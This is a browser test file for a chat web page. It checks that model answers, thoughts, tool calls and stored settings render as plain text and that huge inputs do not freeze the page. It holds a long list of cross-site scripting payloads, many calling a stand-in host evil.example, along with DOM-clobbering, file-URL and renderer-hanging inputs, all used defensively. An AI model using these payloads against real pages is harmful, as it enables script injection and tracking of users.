"""What a model or a tool may say must stay text: nothing runs, nothing is requested, nothing of the page is replaced, and the
page does not freeze. A scripted server says what no model would."""

import json

import pytest

from web_fake_answer import approval, call, text, thought
from web_fake_server import Fake

pytestmark = pytest.mark.any_model

BAD = "window.hacked=1;fetch('http://evil.example/')"
HOSTILE = [
    f"<script>{BAD}</script>",
    f"<script src=http://evil.example/x.js></script><SCRIPT>{BAD}</SCRIPT>",
    f'<img src=x onerror="{BAD}">',
    "<img src=http://evil.example/pixel.png>",
    f'<svg onload="{BAD}"><script>{BAD}</script></svg>',
    f'<svg><a xlink:href="javascript:{BAD}"><text x=20 y=20>x</text></a><use href="http://evil.example/x.svg#a"/></svg>',
    f'<svg><style><img title="</style><img src=x onerror={BAD}>"></svg>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={BAD}&gt;">',
    f'<math href="javascript:{BAD}">x</math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:{BAD}">x</maction>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror={BAD}>',
    f'<noscript><p title="</noscript><img src=x onerror={BAD}>">',
    f'<iframe src="javascript:parent.{BAD}"></iframe><iframe srcdoc="<script>parent.{BAD}</script>"></iframe>',
    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
    f'<details open ontoggle="{BAD}">x</details><body onload={BAD}><marquee onstart={BAD}>x</marquee>',
    f'<input autofocus onfocus="{BAD}"><button onclick="{BAD}">press</button><select onfocus={BAD} autofocus>',
    '<form action="http://evil.example/"><input name=q><button>send</button></form>',
    "<style>body{display:none}@import 'http://evil.example/x.css';</style><link rel=stylesheet href=http://evil.example/x.css>",
    '<p style="position:fixed;inset:0;background:url(http://evil.example/x)">over everything</p>',
    '<meta http-equiv=refresh content="0;url=http://evil.example/"><base href="http://evil.example/">',
    '<a id=turns name=turns></a><form id=message name=message></form><img id=send name=getElementById><a id=location href=x></a>',
    "<video src=http://evil.example/x autoplay></video><audio src=http://evil.example/x></audio><picture><source srcset=http://evil.example/x></picture>",
    f'<a href="javascript:{BAD}">press</a> <a href="http://x.example" onclick="{BAD}">press</a>',
    f"[press](javascript:{BAD})", f"[press](JaVaScRiPt:{BAD})", "[press](javascript&colon;alert%281%29)",
    f"[press](&#106;avascript:{BAD})", f"[press](<java\tscript:{BAD}>)", f"[press](\x01javascript:{BAD})",
    "[press](data:text/html,<script>alert(1)</script>)", "[press](vbscript:msgbox)", "[press](file:///etc/passwd)",
    "[press](//evil.example/x)", "[press](/v1/models/unload)", "[press](web/main.js)", "[press](blob:http://evil.example/x)",
    f"<javascript:{BAD}>", f'[press](http://x.example/"onmouseover="{BAD})', f"[press](http://x.example 'a\" onmouseover=\"{BAD}')",
    f"[a]: javascript:{BAD}\n\n[a]", "![a](http://evil.example/pixel.png)", "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    '![" onerror="window.hacked=1](http://evil.example/a.png)', "[![a](http://evil.example/a.png)](http://x.example)",
    f'```"><img src=x onerror={BAD}>\ncode\n```', f"```html\n<script>{BAD}</script>\n```", "```javascript\n`${'<img src=x onerror=alert(1)>'}`\n```",
    f"`<img src=x onerror={BAD}>`", f"| a |\n|--|\n| <img src=x onerror={BAD}> |", f"# <img src=x onerror={BAD}>",
    f"- [x] <img src=x onerror={BAD}>", f"&lt;img src=x onerror={BAD}&gt;", f"<!-- <img src=x onerror={BAD}> -->", f"<!--\n<img src=x onerror={BAD}>",
    f"<![CDATA[<script>{BAD}</script>]]>", f"<?xml <script>{BAD}</script> ?>", f"<sub onclick={BAD}>x</sub> <br onload={BAD}> <sub>ok</sub>",
    f"$\\href{{javascript:{BAD}}}{{x}}$", f"$\\url{{javascript:{BAD}}}$", "$\\includegraphics{http://evil.example/x.png}$",
    f"$\\htmlId{{turns}}{{x}} \\htmlData{{a=b}}{{x}} \\style{{position:fixed}}{{x}} \\class{{chunk}}{{x}}$", f"$\\text{{<img src=x onerror={BAD}>}}$",
    "$$\\def\\a{\\a\\a}\\a$$", "$$\\rule{100000em}{100000em}$$", "$$" + "{" * 3000 + "$$", "$\\unicode{x3c}script>$", "$" + "\\frac{1}{" * 400 + "$",
    "$\\color{red;position:fixed}{x} \\textcolor{url(http://evil.example/x)}{x} \\colorbox{#fff;background:url(//evil.example)}{x}$",
    "$\\raisebox{1000em}{x} \\kern{-1000em} x \\sqrt{\\frac{a}{b}} \\overbrace{abc} \\xrightarrow{x}$", "$\\html{<img src=x>}\\unknown$",
    f"<details><summary><img src=x onerror={BAD}></summary>\n\n<img src=x onerror={BAD}>\n\n</details>", "<details>\n" * 300, "<details open><summary>" * 50,
    f"<details onclick={BAD}>x</details>", f"<details><details open ontoggle={BAD}>x</details></details>",
    f"a[^1] b[^x<img>]\n\n[^1]: <img src=x onerror={BAD}> [press](javascript:{BAD})", "[^" * 500, "[^1]:\n" * 200,
    "<span class=visually-hidden>hidden</span>", "\u202eevil\u202c and \u0000 zero", "<template><script>window.hacked=1</script></template>",
    "<a href=http://x.example target=_self rel=opener>x</a>", "https://x.example/<script>window.hacked=1</script>", "www.x.example",
]
HUGE = {
    "a line of 1 MB": "x" * 1_000_000,
    "a line of 1 MB of words": "word " * 200_000,
    "stars": "*a **b " * 40_000,
    "brackets": "[" * 100_000,
    "links without an end": "[a](" * 40_000,
    "quotes": ">" * 20_000 + " deep",
    "nested lists": "".join(" " * (2 * n) + "- x\n" for n in range(400)),
    "an unclosed fence": "```python\n" + "print('x')\n" * 50_000,
    "a line of code of 1 MB": "```\n" + "y" * 1_000_000,
    "a huge table": "| a | b | c |\n|--|--|--|\n" + "| 1 | 2 | 3 |\n" * 20_000,
    "a wide table": "|" + " a |" * 2000 + "\n|" + "--|" * 2000 + "\n" + ("|" + " b |" * 2000 + "\n") * 3,
    "angle brackets": "<" * 200_000,
    "pipes": "|" * 100_000,
    "dollars": "$" * 100_000,
    "formulas": "$a$ " * 3_000,
    "backticks": "".join("`" * (n % 90 + 1) + "a" for n in range(4000)),
    "empty lines": "\n" * 200_000,
    "entities": "&lt;" * 100_000,
    "headings": "# a\n" * 10_000,
    "underscores": "_a__b_" * 40_000,
    "details": "<details>" * 20_000,
    "details one after the other": "<details><summary>a</summary>b</details>\n" * 4_000,
    "footnotes": "".join(f"[^{n}]: words\n" for n in range(4_000)),
    "marks of footnotes": "[^1]" * 20_000,
}
# What must not be in an answer's text.
INSPECT = """
const found = [];
if (window.hacked) found.push("a script ran");
const bad = "script, iframe, object, embed, form, input, select, textarea, style, link, meta, base, img, video, audio, picture, source, template, " +
  "svg:not(.icon, .katex-html svg), svg *:not(.icon path, .katex-html svg *), marquee, maction, mglyph, annotation-xml";
for (const prose of document.querySelectorAll(".prose")) {
  for (const one of prose.querySelectorAll(bad)) found.push(`element ${one.outerHTML.slice(0, 100)}`);
  for (const one of prose.querySelectorAll("*")) {
    for (const {name, value} of one.attributes) {
      if (name === "style" && one.closest(".katex-html")) {
        // Set by KaTeX through scripts: lengths and colours, and nothing that leaves the formula's line box for the page.
        if (/url|expression|fixed|absolute|sticky|z-index|image|content/i.test(value)) found.push(`style ${value}`);
        continue;
      }
      if (/^on|^style$|^id$|^name$|^src|^action|^form|^xlink/.test(name) || (name === "class" && /visually-hidden/.test(value)))
        found.push(`attribute ${name} of ${one.outerHTML.slice(0, 100)}`);
    }
  }
  for (const one of prose.querySelectorAll(".katex-html *"))
    if (!/^(span|svg|path|line|g)$/.test(one.localName)) found.push(`in a formula: ${one.outerHTML.slice(0, 100)}`);
  for (const one of prose.querySelectorAll("[href]")) {
    if (!/^(https?:|mailto:)/.test(one.getAttribute("href")) || one.rel !== "noopener noreferrer" || one.target !== "_blank")
      found.push(`link ${one.outerHTML.slice(0, 100)}`);
  }
}
if (document.querySelectorAll("#turns").length !== 1 || document.getElementById("message").tagName !== "TEXTAREA") found.push("an id was taken");
return found;"""
# Feeds texts to the page's own renderer, in pieces as a stream does, and reports for each how long the page stood still.
FEED = """
const [texts, base, done] = arguments;
let longest = 0;
new PerformanceObserver((list) => {
  for (const one of list.getEntries()) longest = Math.max(longest, one.duration);
}).observe({type: "longtask"});
import(base + "web/streamed_text.js").then(async ({StreamedText}) => {
  const worst = [];
  for (const text of texts) {
    const element = document.createElement("div");
    element.className = "prose";
    document.getElementById("turns").append(element);
    const shown = new StreamedText(element);
    longest = 0;
    const pieces = text.length > 10000 ? 6 : 3;
    for (let piece = 1; piece <= pieces; piece++) {
      shown.set(text.slice(0, Math.ceil(text.length * piece / pieces)));
      clearTimeout(shown.timer);
      const begin = performance.now();
      shown.draw();
      element.offsetHeight;  // lays it out
      longest = Math.max(longest, performance.now() - begin);
      await new Promise((next) => setTimeout(next, 0));
    }
    shown.finish();
    while (shown.timer || shown.settled < text.length) await new Promise((next) => setTimeout(next, 5));
    await new Promise((next) => setTimeout(next, text.length > 10000 ? 150 : 0));  // until it is laid out
    worst.push([Math.round(longest), element.textContent.length]);
    if (text.length > 10000) element.remove();
  }
  await new Promise((next) => setTimeout(next, 300));  // colours and formulas come later
  done(worst);
}, (error) => done(String(error)));"""


def script(said, body):
    if any(item.get("type") == "mcp_approval_response" for item in body["input"]):
        return [call("<b>s</b>", "<img src=x onerror=alert(1)>", '{"a": "<script>window.hacked=1</script>"}', HOSTILE[2] * 2000),
                call("s", "t", "not json <img src=x>", error=HOSTILE[0])]
    if said == "tool":
        return [approval("<b>s</b>", "<img src=x onerror=alert(1)>", HOSTILE[0])]
    return [thought(" ".join(HOSTILE[:8])), text("\n\n".join(HOSTILE), 200)]


class Hostile:
    def __init__(self, browser):
        self.b = browser
        self.fake = Fake(script).start()

    def clean(self):
        found = self.b.js(INSPECT)
        found += self.b.problems()
        assert not found, "\n".join(found)

    def feed(self, texts):
        self.b.driver.set_script_timeout(60)
        worst = self.b.driver.execute_async_script(FEED, texts, self.fake.url)
        assert isinstance(worst, list), worst
        return worst


PAGE = Hostile


def test_answers_and_thoughts_stay_text(page):
    b = page.b
    b.open(page.fake.url)
    b.send("go")
    b.done()
    b.click(".thought summary")
    b.frames()
    page.clean()
    b.see("<script>window.hacked=1", ".answer .prose")
    b.see("http://evil.example/pixel.png", ".answer .prose")


def test_each_text_alone_stays_text(page):
    b = page.b
    b.open(page.fake.url)
    page.feed(HOSTILE)
    page.clean()
    # Pressing every link and button of the texts does nothing on this page.
    b.js("for (const one of document.querySelectorAll('.prose a')) { one.addEventListener('click', (event) => event.preventDefault()); one.click(); }")
    assert b.js("return location.href").startswith(page.fake.url)
    page.clean()


def test_huge_texts_do_not_freeze_the_page(page):
    b = page.b
    b.open(page.fake.url)
    slow = []
    for name, value in HUGE.items():
        # A second on a quiet machine; the other cores may be busy, so the best of three counts.
        for _ in range(3):
            limit = 1000 * b.slowness()
            [[worst, length]] = page.feed([value])
            if worst <= limit:
                break
        else:
            slow.append(f"{name}: {worst} ms")
        assert length or not value.strip(), name
    page.clean()
    assert not slow, slow


def test_tools_stay_text(page):
    b = page.b
    b.open(page.fake.url)
    b.ask("tool")
    b.see("<img src=x onerror=alert(1)>", ".consent")
    b.button("Allow once").click()
    b.see("failed", ".state")
    for summary in b.all(".tool summary"):
        summary.click()
    b.see("more characters", ".tool-body")
    page.clean()


def test_names_stay_text(page):
    b = page.b
    session = page.fake.new_session(HOSTILE[2], {"model": HOSTILE[2], "tools": ["x"], "temperature": "<b>"})
    head = page.fake.add(session, None, role="user", content=HOSTILE[2])
    page.fake.add(session, head, role="assistant", content=HOSTILE[4], model=HOSTILE[2],
                  tool_calls=[{"id": "c", "type": "function", "function": {"name": HOSTILE[2], "arguments": HOSTILE[0]}}])
    b.open(page.fake.url)
    b.click("#keep")
    b.see("<img src=x", "#conversations")
    b.click("#conversations a")
    b.see("<svg onload", ".answer .prose")
    b.see("<img src=x", "#title")
    b.click("#settings")
    page.clean()
    assert b.js("return document.querySelectorAll('#turns img, #sidebar img:not([src=\"web/icon.svg\"]), header img').length") == 0


def test_stored_text_of_another_page_is_harmless(page):
    """Settings and conversations in the browser's storage that are not what this page writes."""
    b = page.b
    b.open(page.fake.url)
    b.js("""localStorage.setItem("anabranch.settings", JSON.stringify({model: 7, tools: "x", temperature: "<b>", other: 1}));
        localStorage.setItem("anabranch.consent", "[[["); localStorage.setItem("anabranch.theme", '"><script>');
        sessionStorage.setItem("anabranch.draft", "{"); sessionStorage.setItem("anabranch.open", "../x");""")
    b.driver.refresh()
    b.see("What can I do for you?")
    b.ask("hello")
    body = page.fake.bodies[-1]
    assert "temperature" not in body and "tools" not in body and "model" not in body, json.dumps(body)[:300]
    assert not b.js(INSPECT)
